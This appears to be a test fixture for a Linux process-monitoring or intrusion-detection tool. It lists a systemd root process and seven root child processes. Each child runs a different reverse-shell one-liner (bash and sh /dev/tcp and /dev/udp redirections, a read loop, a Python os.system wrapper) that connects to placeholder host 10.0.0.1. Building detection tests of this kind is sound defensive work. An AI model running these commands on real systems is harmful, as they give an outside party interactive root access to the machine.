os linux
1 0 root systemd /usr/lib/systemd/systemd | /sbin/init
+ 401 1 root - /usr/bin/bash | bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+ 402 1 root sh /usr/bin/dash | sh -c 0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196
+ 403 1 root - /usr/bin/bash | bash -c exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done
+ 404 1 root sh /usr/bin/dash | sh -c sh -i 5<> /dev/tcp/10.0.0.1/9001 0<&5 1>&5 2>&5
+ 405 1 root - /usr/bin/bash | bash -c /bin/sh -i >& /dev/udp/10.0.0.1/53 0>&1
+ 406 1 root python3 /usr/bin/python3.11 | python3 -c __import__("os").system("bash -c 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'")
+ 407 1 root - /usr/bin/bash | bash -c bash </dev/tcp/10.0.0.1/80
